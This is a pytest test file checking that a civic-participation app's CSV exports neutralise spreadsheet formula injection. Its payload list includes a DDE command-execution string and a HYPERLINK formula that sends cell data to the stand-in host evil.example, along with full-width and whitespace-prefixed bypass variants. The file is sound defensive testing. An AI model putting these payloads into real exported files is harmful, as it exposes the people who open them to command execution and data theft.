"""Every CSV download goes through plaza.spreadsheets: hostile cells come out as plain text, numbers as numbers.

Each export is fetched through its real address with the test client; the hostile text is put in the
database as it is (not through a form, which may trim it), so that what is checked is the writer itself."""

import csv
import io
import os

import pytest
import sqlalchemy as sa

from plaza.accounts.models import Role
from plaza.extensions import db
from plaza.phases import PhaseKind
from plaza.proposals.models import Proposal
from plaza.questionnaires import services as questionnaires
from plaza.questionnaires.models import Answer, QuestionKind
from plaza.voting import casting
from plaza.voting import services as voting
from plaza.voting.models import Ballot, BallotKind, BallotOption
from tests.conftest import login, make_process, make_user

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+31 20 555 0100",
    "-2+3",
    "-5",  # text that looks like a negative number is text
    "@SUM(A1:A9)",
    "＝1+1",  # full-width forms, which Excel and LibreOffice read as = + - @
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  =1+1",  # spaces before the formula
    "\t=1+1",
    " \t -1",
    "\u3000＝1",  # ideographic space
    "\n=1+1",
    "\tTabbed",  # a leading tab or carriage return alone
    "\rReturn",
]
# Kept as they are: a formula character further in, or a line break inside the cell (the cell is quoted,
# so what follows the line break stays in the same cell).
HARMLESS = ["a=b", "2024-01-01", "Fine\r\n=1+1", "Fine\n@SUM(A1)", "Más árboles en la plaza"]
CASES = [(value, "'" + value) for value in HOSTILE] + [(value, value) for value in HARMLESS]
IDS = [repr(value) for value, _safe in CASES]


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value, safe", CASES, ids=IDS)
def test_proposal_export(client, value, safe):
    process = make_process(title="Safer streets")
    author = make_user()
    db.session.add(Proposal(process_id=process.id, author_id=author.id, title=value, body="<p>Text</p>",
                            supports_count=3, submission_key=os.urandom(8).hex()))
    db.session.commit()
    assert db.session.scalar(sa.select(Proposal.title)) == value
    login(client, make_user(Role.ORGANISER))
    header, row = read_csv(client.get("/processes/safer-streets/export.csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == safe
    assert cells["supports_count"] == "3" and cells["comments_count"] == "0"  # numbers stay numbers
    assert cells["id"] == str(db.session.scalar(sa.select(Proposal.id)))


@pytest.mark.parametrize("value, safe", CASES, ids=IDS)
def test_questionnaire_answers_export(client, value, safe):
    process = make_process(PhaseKind.DELIBERATION, title="Riverside park")
    organiser = make_user(Role.ORGANISER)
    questionnaire = questionnaires.create_questionnaire(organiser, process, "The park", "", [
        questionnaires.QuestionPlan("Anything else?", QuestionKind.FREE_TEXT)])
    [question] = questionnaire.questions
    questionnaires.submit_response(make_user(), questionnaire, {question.id: "placeholder"})
    db.session.execute(sa.update(Answer).values(text=value))  # as stored, however it got there
    db.session.commit()
    login(client, organiser)
    header, row = read_csv(client.get(f"/processes/{process.slug}/questionnaire/answers.csv"))
    assert header == ["Date", "1. Anything else?"]
    assert row[1] == safe
    assert not row[0].startswith("'")  # the date is kept as it is


@pytest.mark.parametrize("value, safe", CASES, ids=IDS)
def test_ballot_result_export(client, value, safe):
    process = make_process(PhaseKind.VOTING, title="Neighbourhood vote")
    organiser = make_user(Role.ORGANISER)
    ballot = voting.create_ballot(organiser, process, title="Which first?", kind=BallotKind.APPROVAL, seats=1,
                                  max_choices=2, options=[{"label": "Park"}, {"label": "Library"}])
    voting.open_ballot(organiser, ballot)
    park, library = (option.id for option in ballot.options)
    for choices in ([park, library], [park]):
        casting.cast(make_user(), db.session.get(Ballot, ballot.id), choices)
    db.session.execute(sa.update(BallotOption).where(BallotOption.id == park).values(label=value))
    db.session.commit()
    voting.close_ballot(organiser, db.session.get(Ballot, ballot.id))
    assert voting.count_ballot(ballot.id) is True
    rows = read_csv(client.get(f"/processes/{process.slug}/ballots/{ballot.id}/result.csv"))
    assert rows == [["option_id", "option", "cost", "total", "elected"],
                    [str(park), safe, "", "2", "yes"],
                    [str(library), "Library", "", "1", "no"]]
